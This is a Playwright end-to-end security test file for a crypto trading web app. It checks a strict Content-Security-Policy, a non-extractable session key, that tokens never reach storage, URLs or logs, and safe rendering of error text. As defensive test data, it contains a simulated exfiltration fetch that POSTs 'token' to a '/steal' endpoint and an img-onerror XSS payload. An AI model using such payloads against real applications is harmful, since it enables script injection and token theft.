import { expect, test, type Page } from '@playwright/test';
import { BASE } from './support/ports';
import { signInWith, storedToken } from './support/session';

/** CSP violations the page reports, collected from its first script on. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    (window as unknown as { __violations: string[] }).__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __violations: string[] }).__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test('the built app ships a strict CSP: no inline script, network only to the configured services', async ({ page }) => {
  const violations = await watchViolations(page);
  await page.goto('/trade/BTC-USD');
  await expect(page.getByTestId('book-bids').getByTestId('book-bids-row').first()).toContainText(/\d/);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).not.toMatch(/script-src[^;]*unsafe/);
  const connect = csp!.split(';').find((d) => d.trim().startsWith('connect-src'))!;
  expect(connect).toContain(BASE);
  expect(connect).not.toContain('*');
  // Normal use raised no violation.
  expect(await violations()).toEqual([]);

  // An injected inline script does not run, and nothing can be sent to another host.
  const outcome = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.body.append(s);
    let exfiltrated = true;
    await fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'token' }).catch(() => {
      exfiltrated = false;
    });
    return { injected: (window as unknown as { __injected?: boolean }).__injected ?? false, exfiltrated };
  });
  expect(outcome).toEqual({ injected: false, exfiltrated: false });
  await expect.poll(violations).toEqual(expect.arrayContaining([expect.stringMatching(/^script-src/), expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.1:9/)]));
});

test('the session key is non-extractable, and no token or key reaches storage, URLs or logs', async ({ page }) => {
  const logs: string[] = [];
  page.on('console', (m) => logs.push(m.text()));
  const urls: string[] = [];
  page.on('request', (r) => urls.push(r.url()));
  page.on('websocket', (ws) => urls.push(ws.url()));
  await page.goto('/trade/BTC-USD');
  await signInWith(page, /Devnet wallet/);
  const token = (await storedToken(page))!;
  expect(token.length).toBeGreaterThan(20);
  await page.reload();
  await expect(page.getByTestId('account-menu')).toBeVisible();

  const key = await page.evaluate(
    () =>
      new Promise<{ extractable: boolean; exported: string; algorithm: string }>((resolve) => {
        const open = indexedDB.open('perps-session');
        open.onsuccess = () => {
          const get = open.result.transaction('session').objectStore('session').get('current');
          get.onsuccess = async () => {
            const pair = (get.result as { keyPair: CryptoKeyPair }).keyPair;
            const exported = await crypto.subtle.exportKey('pkcs8', pair.privateKey).then(
              () => 'exported',
              (e: unknown) => (e instanceof Error ? e.name : String(e)),
            );
            resolve({ extractable: pair.privateKey.extractable, exported, algorithm: pair.privateKey.algorithm.name });
          };
        };
      }),
  );
  expect(key).toEqual({ extractable: false, exported: 'InvalidAccessError', algorithm: 'Ed25519' });

  const storage = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }));
  expect(storage).not.toContain(token);
  expect(storage).not.toMatch(/PRIVATE|pkcs8|secret/i);
  expect(urls.filter((u) => u.includes(token) || /token=|access_token/.test(u))).toEqual([]);
  expect(logs.filter((l) => l.includes(token))).toEqual([]);
  expect(page.url()).not.toContain(token);
});

test('service strings are rendered as text, never as markup', async ({ page }) => {
  await page.goto('/trade/BTC-USD');
  await signInWith(page, /Devnet wallet/);
  const token = (await storedToken(page))!;
  await page.request.post(`${BASE}/devnet/faucet`, { headers: { authorization: `Bearer ${token}` }, data: { amount: '50000', wallet: 'perps' } });
  await expect(page.getByTestId('available')).toContainText('50,000');
  const hostile = '<img src=x onerror="window.__xss=1">bad order';
  await page.route('**/api/new_order', (route) =>
    route.fulfill({ status: 400, contentType: 'application/json', body: JSON.stringify({ code: 400, message: hostile, request_id: 'e2e' }) }),
  );
  await page.getByTestId('order-form').getByRole('tab', { name: 'Market' }).click();
  await page.locator('#order-size').fill('0.001');
  await page.getByTestId('submit-order').click();
  await expect(page.getByText(hostile)).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  // The form kept what was typed.
  await expect(page.locator('#order-size')).toHaveValue('0.001');
});
